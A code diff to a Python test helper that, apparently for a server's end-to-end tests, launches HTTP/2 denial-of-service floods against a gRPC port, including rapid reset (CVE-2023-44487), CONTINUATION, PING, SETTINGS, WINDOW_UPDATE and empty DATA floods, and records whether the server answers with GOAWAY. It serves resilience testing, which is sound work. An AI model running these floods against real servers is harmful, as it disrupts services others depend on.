@@ -1,5 +1,6 @@
 """HTTP/2 abuse against a gRPC port, for tests/attack_e2e.rs: rapid reset (CVE-2023-44487),
-a CONTINUATION flood, a connection window overflow and a ping flood. Prints one line per
+a CONTINUATION flood, a connection window overflow, and PING, SETTINGS, WINDOW_UPDATE and
+empty DATA floods. Prints one line per
 attack: `attack=NAME outcome=goaway|closed|open code=N sent=N`."""
 
 import select
@@ -38,6 +39,26 @@ def goaway_in(data):
             return int.from_bytes(data[at + 13:at + 17], "big")
         at += 9 + length
     return None
+
+
+class GoawayWatch:
+    """Finds the first GOAWAY in server bytes fed in chunks, keeping only a partial frame."""
+
+    def __init__(self):
+        self.pending = b""
+        self.code = None
+
+    def feed(self, chunk):
+        data = self.pending + chunk
+        at = 0
+        while self.code is None and at + 9 <= len(data):
+            length = int.from_bytes(data[at:at + 3], "big")
+            if at + 9 + length > len(data):
+                break
+            if data[at + 3] == 7 and length >= 8:
+                self.code = int.from_bytes(data[at + 13:at + 17], "big")
+            at += 9 + length
+        self.pending = data[at:]
 
 
 def read_until_closed(sock, seconds):
@@ -126,33 +147,65 @@ def window_overflow(host, port):
     report("window_update_overflow", data, closed or closed_later, sent)
 
 
-def ping_flood(host, port, limit=200000):
-    """PINGs without reading the PONGs: the server answers one at a time and stops reading
-    when they back up, so the flood stalls on the sender's side."""
+def control_flood(name, host, port, flood_frame, opening=b"", limit=200000):
+    """Cheap control frames in batches of 100, reading what the server sends in between (a
+    flooder that reads keeps h2 answering): stops at a GOAWAY, a closed connection, or when
+    the server stops reading (the send blocks for 2 s)."""
     sock = socket.create_connection((host, port))
-    sock.sendall(PREFACE + frame(4, 0, 0, b""))
+    sock.sendall(PREFACE + frame(4, 0, 0, b"") + opening)
     sock.settimeout(2)
-    sent, closed = 0, False
-    ping = frame(6, 0, 0, b"\x00" * 8)
+    watch, sent, closed = GoawayWatch(), 0, False
+    batch = flood_frame * 100
     try:
-        for _ in range(limit // 100):
-            sock.sendall(ping * 100)
+        while sent < limit and watch.code is None:
+            sock.sendall(batch)
             sent += 100
+            ready, _, _ = select.select([sock], [], [], 0)
+            if ready:
+                chunk = sock.recv(1 << 20)
+                if not chunk:
+                    closed = True
+                    break
+                watch.feed(chunk)
     except socket.timeout:
         pass
     except (BrokenPipeError, ConnectionResetError, OSError):
         closed = True
     sock.settimeout(None)
-    print(f"attack=ping_flood_stalled pings_sent={sent} of={limit}", flush=True)
-    data, closed_later = read_until_closed(sock, 1)
-    report("ping_flood", data, closed or closed_later, sent)
+    more, closed_later = read_until_closed(sock, 3)
+    watch.feed(more)
+    closed = closed or closed_later
+    outcome = "goaway" if watch.code is not None else ("closed" if closed else "open")
+    code = watch.code if watch.code is not None else -1
+    print(f"attack={name} outcome={outcome} code={code} sent={sent}", flush=True)
+
+
+def ping_flood(host, port):
+    control_flood("ping_flood", host, port, frame(6, 0, 0, b"\x00" * 8))
+
+
+def settings_flood(host, port):
+    control_flood("settings_flood", host, port, frame(4, 0, 0, b""))
+
+
+def window_update_flood(host, port):
+    """WINDOW_UPDATEs of one byte on the connection: legal, and never answered."""
+    control_flood("window_update_flood", host, port, frame(8, 0, 0, (1).to_bytes(4, "big")))
+
+
+def empty_data_flood(host, port):
+    """Empty DATA frames on an open stream (CVE-2019-9518)."""
+    headers = frame(1, 4, 1, hpack.Encoder().encode(HEADERS))
+    control_flood("empty_data_flood", host, port, frame(0, 0, 1, b""), opening=headers)
 
 
 def main():
     host, port = sys.argv[1], int(sys.argv[2])
     for attack in sys.argv[3:]:
         {"rapid_reset": rapid_reset, "continuation_flood": continuation_flood,
-         "window_update_overflow": window_overflow, "ping_flood": ping_flood}[attack](host, port)
+         "window_update_overflow": window_overflow, "ping_flood": ping_flood,
+         "settings_flood": settings_flood, "window_update_flood": window_update_flood,
+         "empty_data_flood": empty_data_flood}[attack](host, port)
 
 
 if __name__ == "__main__":
